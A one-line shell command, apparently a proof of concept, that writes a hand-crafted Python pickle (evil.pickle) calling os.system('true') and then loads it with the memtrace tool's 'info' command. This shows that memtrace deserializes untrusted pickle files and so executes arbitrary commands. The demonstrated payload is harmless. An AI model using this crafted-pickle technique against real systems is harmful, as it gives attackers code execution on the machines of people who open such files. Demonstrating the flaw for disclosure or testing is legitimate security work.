printf "\200\002cos\nsystem\nX\004\000\000\000true\205R." >evil.pickle; memtrace info evil.pickle
